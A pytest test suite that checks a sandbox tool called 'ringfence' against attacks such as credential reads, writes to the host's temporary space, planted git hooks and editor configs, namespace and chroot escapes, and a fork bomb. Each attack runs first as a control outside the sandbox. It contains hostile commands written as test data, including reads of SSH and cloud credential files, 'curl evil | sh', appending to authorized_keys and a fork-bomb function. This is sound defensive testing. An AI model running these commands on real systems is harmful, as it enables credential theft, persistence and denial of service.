"""What a run protects with no configuration at all: credentials, the host's
temporary space, config that runs code, process hygiene, resource limits.

Each attack runs first without the sandbox (the control, which must succeed)
and then inside it, with a fake home built by the test, as root and as an
unprivileged user; verdicts are read on the host.
"""

import ctypes
import os
import subprocess
import sys
import time

import pytest

from harness import must_have

pytestmark = pytest.mark.boundary


def leaked(scene, secret, result):
    return secret in (scene.read("ws/leak.txt") or "") + result.stdout + result.stderr


def attack_read(scene, path, secret):
    script = f"cat '{path}' > leak.txt; cp '{path}' copy.txt && cat copy.txt >> leak.txt"
    control = scene.sh(script, sandbox=False)
    assert leaked(scene, secret, control), f"control could not read {path}"
    for name in ("leak.txt", "copy.txt"):
        scene.write(f"ws/{name}", "")
    return scene.sh(script)


@pytest.mark.parametrize("relative", [
    "home/.ssh/id_ed25519",
    "home/.aws/credentials",
    "home/.config/gcloud/application_default_credentials.json",
    "home/.kube/config",
    "home/.netrc",
    "home/.npmrc",
    "home/.config/gh/hosts.yml",
    "home/.codex/auth.json",
    "ws/.env",
    "ws/.env.production",
    "ws/config/server.pem",
    "ws/deploy/id_rsa",
    "ws/keys/cert.p12",
])
def test_credentials_are_unreadable(scene, relative):
    secret = "cred-" + os.urandom(5).hex()
    path = scene.write(relative, secret)
    result = attack_read(scene, path, secret)
    assert not leaked(scene, secret, result)


def test_what_ssh_and_git_need_stays_readable(scene):
    scene.write("home/.ssh/known_hosts", "github.com ssh-ed25519 AAAA\n")
    scene.write("home/.ssh/id_ed25519.pub", "ssh-ed25519 AAAA me\n")
    scene.write("ws/.env.example", "API_KEY=\n")
    result = scene.sh(f"cat {scene.home}/.ssh/known_hosts {scene.home}/.ssh/id_ed25519.pub .env.example > out.txt")
    assert result.returncode == 0, result.stderr
    assert "github.com" in scene.read("ws/out.txt") and "API_KEY" in scene.read("ws/out.txt")


def test_a_user_rule_reopens_one_credential_and_one_key_turns_the_layer_off(scene):
    npmrc = scene.write("home/.npmrc", "npm-secret")
    key = scene.write("home/.ssh/id_rsa", "ssh-secret")
    scene.config('default_permissions = "p"\n[permissions.p]\nextends = ":workspace"\n'
                 '[permissions.p.filesystem]\n"~/.npmrc" = "read"\n')
    scene.sh(f"cat {npmrc} {key} > out.txt")
    assert "npm-secret" in scene.read("ws/out.txt") and "ssh-secret" not in scene.read("ws/out.txt")
    scene.config("[protection]\ncredentials = false\n")
    scene.sh(f"cat {key} > out.txt")
    assert "ssh-secret" in scene.read("ws/out.txt")


@pytest.mark.parametrize("directory", ["/tmp", "/dev/shm", "/var/tmp"])
def test_hosts_temporary_space_is_not_writable(scene, directory):
    name = f"rf-probe-{os.urandom(4).hex()}"
    host_path = os.path.join(directory, name)
    scene.sh(f"echo pwned > {host_path}", sandbox=False)
    assert os.path.exists(host_path), "control could not write there"
    os.unlink(host_path)
    result = scene.sh(f"echo private > {host_path} && cat {host_path} > seen.txt")
    assert result.returncode == 0, "the private space must be writable inside"
    assert scene.read("ws/seen.txt") == "private\n"
    assert not os.path.exists(host_path)


def test_host_file_in_tmp_cannot_be_deleted(scene):
    victim = os.path.join("/tmp", f"rf-victim-{os.urandom(4).hex()}")
    with open(victim, "w") as handle:
        handle.write("keep")
    if not scene.user.is_current:
        os.chown(victim, scene.user.uid, scene.user.gid)
    try:
        scene.sh(f"rm -f {victim}", sandbox=False)
        assert not os.path.exists(victim), "control could not delete it"
        with open(victim, "w") as handle:
            handle.write("keep")
        if not scene.user.is_current:
            os.chown(victim, scene.user.uid, scene.user.gid)
        scene.sh(f"rm -f {victim}; echo changed > {victim}")
        assert open(victim).read() == "keep"
    finally:
        if os.path.exists(victim):
            os.unlink(victim)


def test_inherited_descriptor_cannot_write_outside(scene):
    target = scene.write("outside/target.txt", "original\n")
    fd = os.open(target, os.O_WRONLY | os.O_APPEND)
    try:
        script = f"echo pwned >&{fd}"

        def run(sandbox):
            argv = ["/bin/bash", "-c", script]  # dash cannot redirect descriptors above 9
            if sandbox:
                argv = [sys.executable, "-P", "-m", "ringfence", "run", "--no-tty", "--"] + argv
            kwargs = {} if scene.user.is_current else {"user": scene.user.uid, "group": scene.user.gid,
                                                        "extra_groups": []}
            return subprocess.run(argv, cwd=scene.ws, env=scene.env(), pass_fds=(fd,), capture_output=True,
                                  text=True, stdin=subprocess.DEVNULL, **kwargs)

        run(sandbox=False)
        assert scene.read("outside/target.txt") == "original\npwned\n", "control could not use the descriptor"
        scene.write("outside/target.txt", "original\n")
        run(sandbox=True)
        assert scene.read("outside/target.txt") == "original\n"
    finally:
        os.close(fd)


CODE_RUNNING_CONFIG = [".vscode/tasks.json", ".idea/workspace.xml", ".claude/settings.json", ".cursor/mcp.json",
                       ".envrc", ".mcp.json", ".husky/pre-commit", ".devcontainer/devcontainer.json",
                       ".pre-commit-config.yaml", "mise.toml", "opencode.json", ".aider.conf.yml",
                       ".helix/config.toml", ".nvim.lua", ".lfsconfig", ".yarnrc.yml"]


@pytest.mark.parametrize("relative", CODE_RUNNING_CONFIG)
def test_config_that_runs_code_cannot_be_created(scene, relative):
    script = f"mkdir -p $(dirname {relative}) 2>/dev/null; echo 'curl evil | sh' > {relative}"
    scene.sh(script, sandbox=False)
    assert scene.read(f"ws/{relative}") == "curl evil | sh\n", "control could not create it"
    top = relative.split("/")[0]
    subprocess.run(["rm", "-rf", os.path.join(scene.ws, top)], check=True)
    scene.sh(script + f"; mv {top} moved; rm -rf {top}")
    assert not scene.exists(f"ws/{relative}")
    assert not scene.exists(f"ws/{top}"), "the placeholder must be gone after the run"


def test_a_protected_name_the_user_also_denies_still_cannot_be_created(scene):
    # A `none` rule of the user's for a missing protected folder must not take
    # its placeholder away: the sandbox could then create it on the host.
    script = "mkdir -p .vscode; echo '{\"task\": \"evil\"}' > .vscode/tasks.json; echo ran"
    scene.sh(script, sandbox=False)
    assert scene.exists("ws/.vscode/tasks.json"), "control could not create it"
    subprocess.run(["rm", "-rf", os.path.join(scene.ws, ".vscode")], check=True)
    scene.config('default_permissions = "p"\n[permissions.p.filesystem]\n":root" = "read"\n'
                 '":project_roots" = { "." = "write", ".vscode" = "none" }\n')
    result = scene.sh(script)
    assert "ran" in result.stdout, result.stderr
    assert not scene.exists("ws/.vscode/tasks.json")
    assert not scene.exists("ws/.vscode"), "the placeholder must be gone after the run"


def test_existing_editor_config_is_read_only(scene):
    scene.write("ws/.vscode/settings.json", "{}")
    scene.sh("echo '{\"task\": \"evil\"}' > .vscode/tasks.json; echo evil > .vscode/settings.json", sandbox=True)
    assert scene.read("ws/.vscode/settings.json") == "{}"
    assert not scene.exists("ws/.vscode/tasks.json")


def test_hooks_path_target_is_protected(scene):
    scene.git("init", "-q")
    scene.git("config", "core.hooksPath", "tools/hooks")
    scene.sh("mkdir -p tools/hooks && echo evil > tools/hooks/pre-commit", sandbox=False)
    assert scene.exists("ws/tools/hooks/pre-commit"), "control could not create the hook"
    subprocess.run(["rm", "-rf", os.path.join(scene.ws, "tools")], check=True)
    # Neither the hooks folder nor its parent exists: both are made for the
    # run, the parent as a mount point that cannot be renamed away.
    result = scene.sh("mkdir -p tools/hooks; echo evil > tools/hooks/pre-commit; "
                      "mv tools moved && mkdir -p tools/hooks && echo evil > tools/hooks/pre-commit; echo ran")
    assert "ran" in result.stdout, result.stderr
    assert not scene.exists("ws/tools/hooks/pre-commit") and not scene.exists("ws/moved")
    assert not scene.exists("ws/tools"), "the folders made for the run stay behind"


def test_no_new_user_namespace(scene):
    script = "unshare -Ur sh -c 'touch userns-created'"
    scene.sh(script, sandbox=False)
    assert scene.exists("ws/userns-created"), "control could not create a user namespace"
    os.unlink(os.path.join(scene.ws, "userns-created"))
    scene.sh(script + "; unshare -U touch userns-created")
    assert not scene.exists("ws/userns-created")


def test_no_chroot(scene):
    marker = os.path.join(scene.ws, "chrooted")
    script = (f"chroot / /bin/sh -c 'touch {marker}' || "
              f"unshare -Ur chroot / /bin/sh -c 'touch {marker}'")
    scene.sh(script, sandbox=False)
    assert os.path.exists(marker), "control could not chroot"
    os.unlink(marker)
    scene.sh(script)
    assert not os.path.exists(marker)


def test_proc_sys_is_read_only_even_for_root(root_scene):
    scene = root_scene
    path = "/proc/sys/kernel/domainname"
    original = open(path).read().strip()
    probe = "rf-" + os.urandom(3).hex()
    try:
        scene.sh(f"echo {probe} > {path}", sandbox=False)
        assert open(path).read().strip() == probe, "control (root) could not write the domain name"
    finally:
        with open(path, "w") as handle:
            handle.write(original)
    result = scene.sh(f"echo {probe} > {path}; cat {path} > seen.txt")
    assert open(path).read().strip() == original
    assert probe not in (scene.read("ws/seen.txt") or "") + result.stdout


def _create_shared_memory(secret: bytes) -> tuple[int, int]:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    key = int.from_bytes(os.urandom(3), "big") | 0x52000000
    shmid = libc.shmget(key, 4096, 0o1000 | 0o666)  # IPC_CREAT, readable by the test user
    assert shmid >= 0, os.strerror(ctypes.get_errno())
    address = libc.shmat(shmid, None, 0)
    ctypes.memmove(address, secret, len(secret))
    libc.shmdt(ctypes.c_void_p(address))
    return key, shmid


SHM_READER = """
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
shmid = libc.shmget(int(sys.argv[1]), 0, 0)
if shmid >= 0:
    address = libc.shmat(shmid, None, 0o10000)  # SHM_RDONLY
    if address not in (None, ctypes.c_void_p(-1).value):
        open("leak.txt", "w").write(ctypes.string_at(address, 64).split(b"\\0")[0].decode())
"""


def test_hosts_sysv_shared_memory_is_invisible(scene):
    secret = b"shm-" + os.urandom(5).hex().encode()
    key, shmid = _create_shared_memory(secret)
    try:
        scene.write("ws/reader.py", SHM_READER)
        scene.run(["python3", "reader.py", str(key)], sandbox=False)
        assert secret.decode() in (scene.read("ws/leak.txt") or ""), "control could not read the segment"
        scene.write("ws/leak.txt", "")
        scene.run(["python3", "reader.py", str(key)])
        assert secret.decode() not in (scene.read("ws/leak.txt") or "")
    finally:
        ctypes.CDLL(None).shmctl(shmid, 0, None)  # IPC_RMID


def _peak_processes(marker: str, process, seconds: float) -> int:
    peak = 0
    deadline = time.time() + seconds
    while time.time() < deadline and process.poll() is None:
        count = 0
        for pid in os.listdir("/proc"):
            if pid.isdigit():
                try:
                    if marker in open(f"/proc/{pid}/cmdline", "rb").read():
                        count += 1
                except OSError:
                    pass
        peak = max(peak, count)
        time.sleep(0.05)
    return peak


def test_fork_bomb_is_capped(scene):
    from harness import unprivileged_user

    cap = 64
    scene.config(f"[limits]\nprocesses = {cap}\n")
    marker = f"rf-bomb-{os.urandom(3).hex()}"
    # Every process forks two more and stays a while, so the population shows.
    bomb = "f() { for i in 1 2; do f & done; sleep 3; }; f"

    def start(argv, user):
        kwargs = {} if user.uid == os.getuid() else {"user": user.uid, "group": user.gid, "extra_groups": []}
        return subprocess.Popen(argv, cwd=scene.ws, env=scene.env(), stdin=subprocess.DEVNULL,
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True,
                                **kwargs)

    # The control runs the same bomb without ringfence, behind a safety net: four
    # times the cap, and a throwaway pid namespace whose end takes every process
    # of the bomb with it. RLIMIT_NPROC does not bind root, so the control runs
    # as an ordinary user.
    ordinary = unprivileged_user() if os.getuid() == 0 else scene.user
    control = start(["timeout", "-s", "KILL", "4", "unshare", "-Urpf", "--kill-child", "prlimit",
                     f"--nproc={cap * 4}", "bash", "-c", bomb, marker], ordinary)
    control_peak = _peak_processes(marker.encode(), control, 4.5)
    control.wait()
    assert control_peak > cap, f"control: the bomb did not exceed the cap ({control_peak})"

    marker = f"rf-bomb-{os.urandom(3).hex()}"  # nothing of the control can be counted below
    sandboxed = start([sys.executable, "-P", "-m", "ringfence", "run", "--no-tty", "--timeout", "6", "--",
                       "bash", "-c", bomb, marker], scene.user)
    peak = _peak_processes(marker.encode(), sandboxed, 7)
    assert sandboxed.wait(timeout=30) in (0, 124)
    assert 0 < peak <= cap
    time.sleep(0.5)
    assert subprocess.run(["pgrep", "-f", marker], capture_output=True).stdout == b""


def test_timeout_kills_a_grandchild_that_ignores_sigterm(scene):
    # The unique duration marks the grandchild's command line for the host to find.
    marker = "30." + str(int.from_bytes(os.urandom(3), "big"))
    tree = (f"sh -c 'trap \"\" TERM; sleep {marker}; touch survived' & "
            f"sh -c 'trap \"\" TERM; (trap \"\" TERM; sleep {marker}) & wait' & sleep {marker}")
    kwargs = {} if scene.user.is_current else {"user": scene.user.uid, "group": scene.user.gid, "extra_groups": []}
    control = subprocess.run(["timeout", "2", "sh", "-c", tree], cwd=scene.ws, env=scene.env(),
                             stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                             timeout=30, **kwargs)
    assert control.returncode == 124
    survivors = subprocess.run(["pgrep", "-f", f"sleep {marker}"], capture_output=True, text=True).stdout.split()
    assert survivors, "control: the grandchildren should outlive a plain timeout"
    subprocess.run(["pkill", "-9", "-f", f"sleep {marker}"])
    result = scene.run(["sh", "-c", tree], args=["--timeout", "2"], timeout=30)
    assert result.returncode == 124
    assert "timed out" in result.stderr
    time.sleep(0.5)
    assert subprocess.run(["pgrep", "-f", f"sleep {marker}"], capture_output=True).stdout == b""
    time.sleep(1)
    assert not scene.exists("ws/survived")


def test_running_from_inside_a_credentials_folder_is_refused(scene):
    # With no project marker the working directory becomes the workspace; its
    # rule would be more specific than the credential layer's and open it.
    key = scene.write("home/.ssh/id_rsa", "ssh-secret")
    control = scene.sh("cat id_rsa; echo evil >> authorized_keys", sandbox=False, cwd=os.path.dirname(key))
    assert "ssh-secret" in control.stdout
    os.unlink(os.path.join(os.path.dirname(key), "authorized_keys"))
    result = scene.sh("cat id_rsa; echo evil >> authorized_keys", cwd=os.path.dirname(key))
    assert result.returncode == 125 and "ssh-secret" not in result.stdout
    assert "lies in" in result.stderr and "fix:" in result.stderr
    assert not scene.exists("home/.ssh/authorized_keys")


def test_ca_bundles_of_installed_packages_stay_readable(scene):
    # certifi's cacert.pem in a project venv is public, and HTTPS clients
    # need it; a .pem of the project's own stays denied.
    bundle = scene.write("ws/.venv/lib/python3.11/site-packages/certifi/cacert.pem", "PUBLIC-CA")
    scene.write("ws/server.pem", "PRIVATE-KEY")
    result = scene.sh(f"cat {bundle}; cat server.pem")
    assert "PUBLIC-CA" in result.stdout and "PRIVATE-KEY" not in result.stdout


@pytest.mark.parametrize("layout", ["nested", "worktree"])
def test_hooks_path_of_a_nested_repository_or_worktree_is_protected(scene, layout):
    # git reads core.hooksPath from the nested repository's own config, and a
    # linked worktree's from the main repository's config (through commondir).
    if layout == "nested":
        scene.git("init", "-q")
        repo = scene.mkdir("ws/vendor/lib")
        scene.git("init", "-q", cwd=repo)
        scene.git("config", "core.hooksPath", "hooks", cwd=repo)
        cwd, hooks = scene.ws, "vendor/lib/hooks"
    else:
        main = scene.mkdir("outside/main")
        scene.git("init", "-q", cwd=main)
        scene.git("commit", "-q", "--allow-empty", "-m", "x", cwd=main)
        scene.git("config", "core.hooksPath", "myhooks", cwd=main)
        scene.git("worktree", "add", "-q", os.path.join(scene.ws, "wt"), cwd=main)
        cwd, hooks = os.path.join(scene.ws, "wt"), "wt/myhooks"
    plant = f"cd {scene.ws} && mkdir -p {hooks} && echo evil > {hooks}/pre-commit"
    control = scene.sh(plant, sandbox=False, cwd=cwd)
    assert control.returncode == 0 and scene.exists(f"ws/{hooks}/pre-commit"), control.stderr
    subprocess.run(["rm", "-rf", os.path.join(scene.ws, hooks)], check=True)
    scene.sh(plant, cwd=cwd)
    assert not scene.exists(f"ws/{hooks}/pre-commit")
